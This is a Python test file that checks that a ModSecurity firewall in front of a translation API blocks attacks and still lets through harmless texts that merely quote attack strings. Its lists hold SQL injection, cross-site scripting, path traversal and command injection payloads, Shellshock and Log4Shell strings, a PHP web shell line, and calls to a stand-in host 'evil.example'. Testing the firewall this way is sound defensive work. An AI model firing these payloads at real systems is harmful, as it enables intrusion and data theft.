"""The web application firewall: attacks are stopped at the edge, and texts that look like attacks are translated."""

from __future__ import annotations

import ssl
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest

from tests.ops.edge.conftest import TEXT
from tests.ops.kit.daemons import Daemon
from tests.ops.kit.edge import Edge
from tests.ops.kit.programs import need

pytestmark = pytest.mark.ops

MODULE = Path("/usr/lib/nginx/modules/ngx_http_modsecurity_module.so")
RULES = Path("/usr/share/modsecurity-crs/rules")

#: Requests that no client of a translation service sends.
ATTACKS: list[tuple[str, str, dict[str, Any]]] = [
    ("GET", "/languages?id=1'+OR+'1'='1'--+-", {}),
    ("GET", "/languages?id=1+UNION+SELECT+password+FROM+users", {}),
    ("GET", "/docs?x=<script>alert(document.cookie)</script>", {}),
    ("GET", "/static/x?file=../../../../etc/passwd", {}),
    ("GET", "/languages?cmd=;cat+/etc/passwd", {}),
    ("GET", "/languages?u=http://169.254.169.254/latest/meta-data/../../etc/passwd", {}),
    ("GET", "/version", {"headers": {"User-Agent": "sqlmap/1.7.2#stable (https://sqlmap.org)"}}),
    ("GET", "/version", {"headers": {"User-Agent": "() { :; }; /bin/bash -c 'cat /etc/passwd'"}}),
    ("GET", "/version", {"headers": {"X-Note": "; /bin/bash -c 'cat /etc/passwd'", "Referer": "<script>a()</script>"}}),
    ("GET", "/translate?text=hello&source_lang=en'+UNION+SELECT+password+FROM+users--+-", {}),
    ("GET", "/translate?text=hello&file=../../../../etc/passwd", {}),
    ("POST", "/translate", {"json": {**TEXT, "source_lang": "en' UNION SELECT password FROM users-- -"}}),
    ("POST", "/translate", {"json": {**TEXT, "x": "<script>alert(document.cookie)</script>"}}),
    ("POST", "/translate", {"data": {"q": "hello", "source": "en", "target": "fr", "n": "; cat /etc/passwd"}}),
    ("POST", "/v2/translate", {"json": {"text": ["a"], "target_lang": "FR", "glossary_id": "../../../../etc/passwd"}}),
    ("TRACE", "/translate", {}),
]

#: What people have translated: code, manuals, markup, mail.
TEXTS = [
    "Please SELECT your seat FROM the list WHERE the window is; then DROP TABLE reservations.",
    "1' OR '1'='1' UNION SELECT username, password FROM users--",
    "<script>alert(document.cookie)</script><img src=x onerror=alert(1)> is how the attack looks.",
    "Run `cat /etc/passwd | grep root; rm -rf /tmp/x && curl http://169.254.169.254/` and read ../../etc/shadow.",
    "() { :; }; /bin/bash -c 'id' and ${jndi:ldap://evil.example/a} are old ones.",
    "<?php system($_GET['cmd']); ?> shows why; see php://input and base64_decode().",
    "Dear Sir, the e-mail's Subject:\r\nBcc: all@example.test\r\n was wrong, I'm afraid; we'd --really-- like 50% off!",
    "GET /index.html HTTP/1.1\r\nHost: a\r\n is what goes over the wire; HTTP/1.0 302 Location: comes back.",
    "Call java.lang.Runtime.getRuntime().exec('id'), then include('http://evil.example/x.php?mosConfig_absolute_path=1').",
    "100%uff41 of %zz and %3Cscript%3E are not decoded twice; \\..\\..\\windows\\system32\\cmd.exe",
    "require('child_process').exec('ls'); console.log(process.env)",
    'Ünïcödé — “quotes”, emoji 🎉, tabs\tand nulls are fine; {"json": [1, 2]} too.',
]


@pytest.fixture(scope="module")
def client(one: Daemon, tmp_path_factory: pytest.TempPathFactory) -> Iterator[httpx.Client]:
    need("nginx")
    if not MODULE.exists() or not RULES.exists():
        pytest.skip("needs libnginx-mod-http-modsecurity and modsecurity-crs")
    with Edge(tmp_path_factory.mktemp("waf"), [one.address], "--waf", "on") as edge:
        tls = ssl.create_default_context(cafile=str(edge.cafile))
        with httpx.Client(base_url=edge.url, verify=tls, timeout=30) as client:
            yield client


@pytest.mark.parametrize(("method", "path", "options"), ATTACKS, ids=lambda value: str(value)[:50])
def test_attacks_are_stopped(client: httpx.Client, method: str, path: str, options: dict[str, Any]) -> None:
    answer = client.request(method, path, **options)
    assert answer.status_code in (403, 405), answer.text
    assert "x-frame-options" in answer.headers
    if path.startswith("/v2/"):
        assert "message" in answer.json()
    elif answer.status_code == 403:
        assert answer.json()["error"]["code"] == "forbidden"


@pytest.mark.parametrize("text", TEXTS, ids=lambda text: text[:30])
def test_texts_pass_whatever_they_say(client: httpx.Client, text: str) -> None:
    native = {"source_lang": "en", "target_lang": "fr"}
    requests: list[tuple[str, str, dict[str, Any]]] = [
        ("POST", "/translate", {"json": {"text": text, **native}}),
        ("POST", "/translate", {"json": {"text": ["a", text, text], **native}}),
        ("POST", "/translate", {"json": {"q": text, "source": "en", "target": "fr"}}),
        ("POST", "/translate", {"json": {"q": [text, text], "source": "en", "target": "fr"}}),
        ("POST", "/translate", {"data": {"q": text, "source": "en", "target": "fr"}}),
        ("POST", "/translate", {"json": {"source": [text], "src_lang": "eng_Latn", "tgt_lang": "fra_Latn"}}),
        ("POST", "/v2/translate", {"json": {"text": [text], "source_lang": "EN", "target_lang": "FR"}}),
        ("POST", "/v2/translate", {"data": {"text": [text, "a"], "source_lang": "EN", "target_lang": "FR"}}),
        ("POST", "/language/translate/v2", {"json": {"q": [text], "source": "en", "target": "fr"}}),
        ("POST", "/translate?api-version=3.0&from=en&to=fr", {"json": [{"Text": text}, {"text": text}]}),
        ("GET", "/api/v4/translator", {"params": {"text": text, "source": "eng_Latn", "target": "fra_Latn"}}),
        ("POST", "/detect", {"json": {"text": text}}),
        ("POST", "/detect", {"data": {"q": text}}),
    ]
    for method, path, options in requests:
        answer = client.request(method, path, **options)
        assert answer.status_code == 200, (path, options, answer.text)


def test_calls_that_look_odd_and_are_right_pass(client: httpx.Client) -> None:
    languages = client.request("GET", "/v2/languages", data={"type": "target"})
    assert languages.status_code == 200, languages.text
    gone = client.delete("/v2/glossaries/9e5c1f4a-0000-4000-8000-000000000000")
    assert gone.status_code == 404
    made = client.post(
        "/v2/glossaries",
        json={
            "name": "mine",
            "source_lang": "en",
            "target_lang": "fr",
            "entries": "select * from users\tsélection\n<b>\tgras",
            "entries_format": "tsv",
        },
    )
    assert made.status_code == 201, made.text


def test_what_cannot_be_parsed_is_refused_as_json(client: httpx.Client) -> None:
    answer = client.post("/translate", content=b'{"text": "a', headers={"Content-Type": "application/json"})
    assert answer.status_code == 400
    assert answer.json()["error"]["request_id"]


def test_no_rule_is_passed_by_behind_too_many_fields(client: httpx.Client) -> None:
    fields = {f"f{number}": "1" for number in range(2100)} | {"n": "; cat /etc/passwd"}
    assert client.post("/translate", data=fields).status_code in (400, 403)


def test_large_requests_pass(client: httpx.Client) -> None:
    text = "It is raining. " * 330
    answer = client.post("/translate", json={"text": [text] * 128, "source_lang": "en", "target_lang": "fr"})
    assert answer.status_code == 200, answer.text[:200]
